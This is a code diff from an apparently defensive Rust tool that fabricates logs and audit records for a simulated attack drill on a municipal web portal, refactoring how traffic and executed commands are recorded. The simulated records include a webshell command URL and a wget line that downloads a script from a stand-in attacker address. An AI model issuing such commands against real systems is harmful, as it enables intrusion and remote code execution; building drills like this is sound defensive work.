@@ -48,7 +48,7 @@ pub struct Artifacts {
 /// Makes everything for an attack that begins at `start`.
 pub fn make(start: Timestamp, seed: u64) -> Result<Artifacts> {
     let mut drill = Drill { out: Artifacts::default(), random: StdRng::seed_from_u64(seed), start };
-    drill.ordinary_traffic()?;
+    drill.ordinary_traffic();
     drill.scan();
     drill.web_exploit();
     drill.webshell();
@@ -80,7 +80,7 @@ impl Drill {
     }
 
     /// Citizens read the portal; the commune's machines browse and look names up.
-    fn ordinary_traffic(&mut self) -> Result<()> {
+    fn ordinary_traffic(&mut self) {
         let pages = ["/", "/thu-tuc", "/thu-tuc/khai-sinh", "/tra-cuu-ho-so", "/static/app.css", "/lien-he"];
         for index in 0..160_u64 {
             let moment = self.at(index * 5);
@@ -95,9 +95,9 @@ impl Drill {
             let moment = self.jitter(moment, 5_000);
             let name = names.get(self.random.random_range(0..names.len())).copied().unwrap_or("www.example");
             let machine = Ipv4Addr::new(192, 168, 10, self.random.random_range(20..40));
-            self.lookup(moment, machine, name, Ipv4Addr::new(198, 51, 100, self.random.random_range(30..60)));
+            let address = Ipv4Addr::new(198, 51, 100, self.random.random_range(30..60));
+            self.lookup(moment, machine, name, address);
         }
-        Ok(())
     }
 
     /// One visit of the portal: in the capture before it and in the log of its web server.
@@ -182,14 +182,14 @@ impl Drill {
             let target = format!("/uploads/anh-dai-dien.php?cmd={command}");
             self.web_visit(at, ATTACKER, ("GET", &target, ""), BROWSER, (200, "uid=33(www-data)"));
             let plain = command.replace("%20", " ");
-            self.audit_exec(at, 300 + index, ("www-data", 33), "/usr/bin/dash", &["sh", "-c", &plain]);
+            self.audit_exec(at, 300 + index, 33, "/usr/bin/dash", &["sh", "-c", &plain]);
         }
         let at = self.at(240);
-        self.audit_exec(at, 320, ("www-data", 33), "/usr/bin/wget", &["wget", "http://203.0.113.99/a.sh", "-O", "/tmp/a.sh"]);
+        self.audit_exec(at, 320, 33, "/usr/bin/wget", &["wget", "http://203.0.113.99/a.sh", "-O", "/tmp/a.sh"]);
     }
 
     /// The SYSCALL and EXECVE records of one started program.
-    fn audit_exec(&mut self, at: Timestamp, serial: u64, (_user, uid): (&str, u32), exe: &str, args: &[&str]) {
+    fn audit_exec(&mut self, at: Timestamp, serial: u64, uid: u32, exe: &str, args: &[&str]) {
         let stamp = format!("{}.{:03}:{serial}", at.seconds(), at.millis().rem_euclid(1_000));
         let comm = args.first().copied().unwrap_or_default();
         self.out.linux.push(format!(
